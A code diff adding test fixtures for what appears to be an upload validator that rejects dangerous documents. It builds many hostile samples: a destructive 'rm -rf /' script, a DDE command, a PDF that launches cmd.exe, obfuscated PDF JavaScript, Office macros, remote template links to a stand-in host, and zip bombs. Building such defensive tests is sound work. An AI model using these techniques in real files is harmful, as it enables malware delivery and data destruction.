@@ -4,6 +4,7 @@ import io
 import random
 import struct
 import zipfile
+import zlib
 from collections.abc import Callable
 
 NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
@@ -116,4 +117,107 @@ JAHAT: dict[str, tuple[Callable[[], bytes], str]] = {
     "not_xml": (lambda: workbook("<row"), "rusak"),
     "empty": (lambda: b"", "kosong"),
     "too_large": (lambda: b"PK\x03\x04" + b"\x00" * (11 * 2**20), "10 MB"),
+}  # fmt: skip
+
+
+def pdf(words: str = "Bukti", catalog: str = "", more: str = "") -> bytes:
+    """A PDF of one empty page that says `words` in a comment; more entries for its catalog, more objects."""
+    parts = (f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")  # fmt: skip
+    body = "".join(f"{n} 0 obj\n{part}\nendobj\n" for n, part in enumerate(parts, 1))
+    return f"%PDF-1.4\n% {words}\n{body}{more}trailer\n<< /Root 1 0 R >>\n%%EOF\n".encode()
+
+
+# ---------------------------------------------------------------- for every door
+
+DOCX = {"word/document.xml": "<document/>"}
+XLSX: dict[str, str | bytes] = {
+    "xl/workbook.xml": WORKBOOK, "xl/_rels/workbook.xml.rels": RELS, "xl/worksheets/sheet1.xml": SHEET % "",
+}  # fmt: skip
+PNG = b"\x89PNG\r\n\x1a\n"
+PROGRAM = b"MZ\x90\x00 This program cannot be run in DOS mode"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
+
+
+def types(jenis: str) -> dict[str, str]:
+    return {"[Content_Types].xml": f'<Types><Override PartName="/xl/x.bin" ContentType="{jenis}"/></Types>'}
+
+
+def linked(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> dict[str, str]:
+    """A relationship to something outside of the file."""
+    return {part: f'<Relationships><Relationship Id="r9" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
+                  "</Relationships>"}  # fmt: skip
+
+
+def packed_pdf(text: bytes, filters: str = "/FlateDecode") -> bytes:
+    """Its objects lie in a compressed stream, where their names do not show."""
+    body = zlib.compress(text)
+    head = f"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter {filters} /Length {len(body)} >>\nstream\n"
+    return pdf().replace(b"trailer", head.encode() + body + b"\nendstream\nendobj\ntrailer")
+
+
+def with_part(base: dict[str, str] | dict[str, str | bytes], name: str, content: str | bytes = "x") -> bytes:
+    return pack({**base, name: content})
+
+
+DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+
+# What no door lets in, by its name; no name or suffix helps it.
+SELALU_DITOLAK: dict[str, Callable[[], bytes]] = {
+    "empty": lambda: b"",
+    "program": lambda: PROGRAM,
+    "program before a pdf": lambda: PROGRAM + pdf(),
+    "script": lambda: b"#!/bin/sh\nrm -rf /",
+    "html": lambda: b"<html><script>alert(1)</script></html>",
+    "svg": lambda: b'<svg onload="alert(1)"/>',
+    "old office": lambda: OLE,
+    "torn zip": lambda: b"PK\x03\x04 torn",
+    "any other zip": lambda: pack({"a.txt": "x"}),
+    "xlsx macro": lambda: with_part(XLSX, "xl/vbaProject.bin"),
+    "xlsx macro, its data only": lambda: with_part(XLSX, "xl/vbaData.xml"),
+    "xlsx macro sheet": lambda: with_part(XLSX, "xl/macrosheets/sheet1.xml"),
+    "xlsx international macro sheet": lambda: with_part(XLSX, "xl/intlMacrosheets/sheet1.xml"),
+    "xlsx macro under another name": lambda: pack({**XLSX, **types("application/vnd.ms-office.vbaProject")}),
+    "xlsx that says macroEnabled": lambda: pack(
+        {**XLSX, **types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")}
+    ),
+    "xlsx program": lambda: with_part(XLSX, "xl/embeddings/setup.exe", PROGRAM),
+    "xlsx ole package": lambda: with_part(XLSX, "xl/embeddings/oleObject1.bin", OLE),
+    "xlsx embedding of no known kind": lambda: with_part(XLSX, "xl/embeddings/data.bin", "x"),
+    "xlsx program as a picture": lambda: with_part(XLSX, "xl/media/image1.png", PROGRAM),
+    "xlsx ole as a picture": lambda: with_part(XLSX, "xl/media/image1.png", OLE),
+    "xlsx activex": lambda: with_part(XLSX, "xl/activeX/activeX1.xml", "<x/>"),
+    "xlsx dde": lambda: with_part(XLSX, "xl/externalLinks/externalLink1.xml", DDE),
+    "xlsx link to another computer": lambda: pack(
+        {**XLSX, **linked("externalLinkPath", "https://jahat.example/a.xlsx", "xl/externalLinks/_rels/e.xml.rels")}
+    ),
+    "xlsx link to a share": lambda: pack(
+        {**XLSX, **linked("externalLinkPath", "file:///\\\\10.0.0.9\\s\\a.xlsx", "xl/externalLinks/_rels/e.xml.rels")}
+    ),
+    "docx macro": lambda: with_part(DOCX, "word/vbaProject.bin"),
+    "docx macro, its data only": lambda: with_part(DOCX, "word/vbaData.xml"),
+    "docx program": lambda: with_part(DOCX, "word/embeddings/setup.EXE", PROGRAM),
+    "docx ole package": lambda: with_part(DOCX, "word/embeddings/oleObject1.bin", OLE),
+    "docx activex": lambda: with_part(DOCX, "word/activeX/activeX1.bin"),
+    "docx workbook with a macro in it": lambda: with_part(
+        DOCX, "word/embeddings/Sheet.xlsx", with_part(XLSX, "xl/vbaProject.bin")
+    ),
+    "docx template from elsewhere": lambda: pack({**DOCX, **linked("attachedTemplate", "http://jahat.example/t.dotm")}),
+    "docx picture from elsewhere": lambda: pack({**DOCX, **linked("image", "\\\\10.0.0.9\\s\\a.png")}),
+    "docx object from elsewhere": lambda: pack({**DOCX, **linked("oleObject", "C:\\a.xlsx")}),
+    "bomb": lambda: pack({**XLSX, "xl/worksheets/sheet2.xml": b" " * (60 * JUTA)}, level=9),
+    "many bombs": lambda: pack({**XLSX, **{f"xl/{n}.xml": "x" * (6 * JUTA) for n in range(20)}}),
+    "crowded directory": crowded_directory,
+    "same name twice": same_name_twice,
+    "pdf without an end": lambda: pdf().replace(b"%%EOF", b""),
+    "pdf script": lambda: pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
+    "pdf script in disguise": lambda: pdf(catalog="/OpenAction << /S /J#61vaScr#69pt /JS (x) >>"),
+    "pdf script within packed objects": lambda: packed_pdf(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"),
+    "pdf packed so that nobody sees": lambda: packed_pdf(b"1 0 << /S /URI >>", "[/ASCIIHexDecode /FlateDecode]"),
+    "pdf bomb": lambda: packed_pdf(b" " * (60 * JUTA)),
+    "pdf launch": lambda: pdf(more="9 0 obj << /S /Launch /F (cmd.exe) >> endobj\n"),
+    "pdf attachment": lambda: pdf(catalog="/Names << /EmbeddedFiles 9 0 R >>"),
+    "pdf with a password": lambda: pdf().replace(b"/Root", b"/Encrypt 9 0 R /Root"),
+    "picture without an end": lambda: PNG + b"\0" * 200,
+    "endless": lambda: pdf() + b" " * (11 * 2**20),
 }  # fmt: skip
